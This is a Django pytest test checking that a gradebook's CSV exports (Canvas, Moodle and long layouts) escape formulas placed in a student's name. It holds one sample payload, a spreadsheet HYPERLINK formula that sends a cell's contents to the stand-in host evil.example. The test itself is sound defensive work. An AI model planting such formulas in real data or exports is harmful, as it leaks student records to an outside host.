"""Gradebook CSVs write a student's chosen name as text: a name that is a formula does not run in the
spreadsheet the instructor opens."""
import csv
import io

import pytest
from django.urls import reverse

from exams.actions.attempts import start_attempt, submit_attempt

from .conftest import client_for

pytestmark = pytest.mark.django_db
EVIL = '=HYPERLINK("https://evil.example/?"&A2,"grade")'


@pytest.mark.parametrize("layout, column", [("canvas", 0), ("moodle", 0), ("long", 0)])
def test_a_formula_in_a_name_is_exported_as_text(exam, people, layout, column):
    alice = people["alice"]
    alice.first_name, alice.last_name, alice.username = EVIL, "", "@alice"
    alice.save()
    submit_attempt(start_attempt(exam, alice).pk, alice)
    body = client_for(people["ivy"]).get(reverse("exams:export", args=[exam.pk, layout])).content.decode()
    rows = list(csv.reader(io.StringIO(body)))
    cells = [c for r in rows for c in r]
    assert not any(c.startswith(("=", "@")) for c in cells), cells
    if layout == "long":
        assert "'@alice" in cells
    else:
        assert "'" + EVIL in cells
